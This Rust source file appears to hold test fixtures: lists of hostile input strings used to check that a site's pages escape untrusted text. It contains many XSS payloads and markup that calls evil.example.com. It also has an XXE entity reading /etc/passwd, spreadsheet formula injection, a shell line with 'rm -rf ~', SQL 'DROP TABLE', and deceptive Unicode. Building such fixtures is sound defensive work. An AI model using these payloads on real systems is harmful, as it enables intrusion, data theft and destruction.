//! Texts of strangers that would do harm if a page took them for more than text.

/// Several of them in one line, for a field that is filled once.
pub const HOSTILE: &str =
    "</script><script>alert(1)</script>\"'><img src=x onerror=alert(2)><svg onload=alert(3)>\u{202e}gnp.exe{{7*7}}";

/// Returns all of them. What would become an element or an attribute is none that our
/// pages have, or says `data-evil`.
pub fn hostile_texts() -> Vec<String> {
    let mut texts: Vec<String> =
        MARKUP.iter().chain(&ADDRESSES).chain(&CHARACTERS).chain(&LANGUAGES).map(|text| (*text).into()).collect();
    texts.push("<i data-evil>huge</i>".repeat(150));
    texts.push("\u{202e}\u{2066}<".repeat(60));
    texts.push("Z\u{335}\u{321}\u{33c}a\u{338}\u{324}".repeat(20));
    texts.push(HOSTILE.to_owned());
    texts
}

/// Elements, attributes, comments and the ends of those that hold plain text.
const MARKUP: [&str; 17] = [
    "<script>alert(1)</script>",
    "</script><script data-evil>alert(1)</script>",
    "\" onmouseover=alert(1) data-evil=\"",
    "' onfocus=alert(1) autofocus data-evil='",
    "` onclick=alert(1) data-evil=`",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x data-evil>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "</title></textarea></style></pre></code><b data-evil>",
    "--><b data-evil><!--",
    "<![CDATA[<b data-evil>]]><?php echo 1 ?>",
    "<style>body{display:none}</style><link rel=stylesheet data-evil href=//evil.example.com>",
    "</td></tr></table></form><form data-evil action=https://evil.example.com><button formaction=/x>",
    "<base href=https://evil.example.com/>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example.com\">",
    "&lt;b data-evil&gt;&#60;b data-evil&#62;&amp;lt;b&amp;gt;",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>#{7*7}[[${7*7}]]",
];

/// What would do harm as the address of a link, a form or a picture, or in a style.
const ADDRESSES: [&str; 7] = [
    "javascript:alert(1)//",
    "JaVa\tScRiPt:alert(1)",
    "\u{1}javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\" data-evil>here</a>",
    "//evil.example.com/../..\\..\\",
    "red;}*{background:url(https://evil.example.com)",
];

/// What other readers of the same text would run: parsers that repair markup, spreadsheets,
/// shells, terminals, templates, databases and log viewers.
const LANGUAGES: [&str; 30] = [
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1) data-evil>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\" data-evil></use></svg>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1) data-evil>\">",
    "<template><script>alert(1)</script></template><slot data-evil>",
    "<x contenteditable onbeforeinput=alert(1) data-evil>",
    "<details open ontoggle=alert(1) data-evil><dialog open>",
    "<button popovertarget=x data-evil><b popover id=x onbeforetoggle=alert(1)>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object><embed src=//evil.example.com>",
    "<link rel=prefetch href=//evil.example.com/?seen data-evil><audio src=//evil.example.com autoplay>",
    "<input id=search name=form_token value=evil form=evil data-evil>",
    "<a id=main name=body><a id=main name=dataset data-evil>",
    "\"><p data-live id=verdict data-evil>",
    "<svg><style>@import'//evil.example.com';</style><set attributeName=href to=javascript:alert(1) data-evil>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><b data-evil>&e;</b>",
    "<img srcset=\"//evil.example.com 1x\" alt data-evil><picture><source srcset=//evil.example.com>",
    "\u{feff}\u{3c}\u{200b}script\u{3e}alert(1)<\u{2f}script>",
    "\u{ff1c}img src=x onerror=alert(1)\u{ff1e}\u{2039}b\u{203a}",
    "vbscript:msgbox(1) livescript:x view-source:x blob:x filesystem:x",
    "\\\\evil.example.com\\share and https:evil.example.com and http:///evil.example.com",
    "@import url(//evil.example.com);}body{position:fixed;inset:0}/*",
    "expression(alert(1));-moz-binding:url(//evil.example.com#x);width:99999px",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0\t+1-1",
    "'; rm -rf ~; echo '$(touch evil)`touch evil`\\",
    "\u{1b}[201~\ntouch evil\n\u{1b}]0;evil\u{7}\u{9b}2J",
    "--help -rf --server=http://evil.example.com ../../../../etc/passwd%00.png",
    "{[1-999]}{a,b}%s%n%x{0.__class__}{{constructor.constructor('alert(1)')()}}*{T(x).exec('id')}",
    "'); DROP TABLE deliveries; -- \" OR 1=1 /*",
    "\u{61c}\u{200f}שלום\u{202e}\u{2067}evil\u{2069}\u{202c}\u{1f1e9}\u{1f1ea}\u{fe0f}\u{20e3}",
    "﷽﷽﷽꧅꧅𒐫𒐫WWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWWW",
];

/// Characters that hide, turn the line around, look like others or control a terminal.
const CHARACTERS: [&str; 7] = [
    "\u{202e}gnp.exe\u{2066}fdp\u{2069}",
    "in\u{200b}vi\u{200d}si\u{feff}ble\u{2060}\u{ad}\u{e0041}",
    "p\u{430}yp\u{430}l.com \u{ff1c}script\u{ff1e}\u{2028}\u{2029}",
    "\u{1b}[31mred\u{1b}[0m\u{7}\u{8}\u{7f}\u{85}\u{9b}",
    "nul\0and\u{fffd}\u{fffe}\u{10ffff}",
    "\r\nSet-Cookie: evil=1\r\n\r\n<b data-evil>",
    "١٢٣ עברית ไทย 👩‍👩‍👧‍👦 e\u{301}",
];
